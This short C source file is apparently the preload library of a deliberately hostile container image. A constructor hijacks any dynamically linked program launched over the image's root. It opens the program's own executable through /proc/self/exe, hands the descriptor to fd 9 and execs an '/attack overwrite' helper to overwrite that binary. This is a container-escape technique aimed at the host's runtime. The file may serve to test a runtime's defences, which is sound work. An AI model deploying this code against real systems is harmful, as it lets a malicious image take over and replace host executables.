/* /etc/ld.so.preload of a hostile image: whatever dynamic program is executed over this root becomes the attacker's.
 * The program's own file is opened and left to `attack overwrite`, after which nobody runs it any more. */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void take_over(void)
{
	char link[4096];
	ssize_t size = readlink("/proc/self/exe", link, sizeof(link) - 1);
	int fd = open("/proc/self/exe", O_RDONLY);

	printf("took over %.*s\n", (int)(size > 0 ? size : 0), link);
	fflush(stdout);
	if (fd >= 0 && dup2(fd, 9) == 9)
		execl("/attack", "attack", "overwrite", "9", (char *)NULL);
	_exit(1);
}
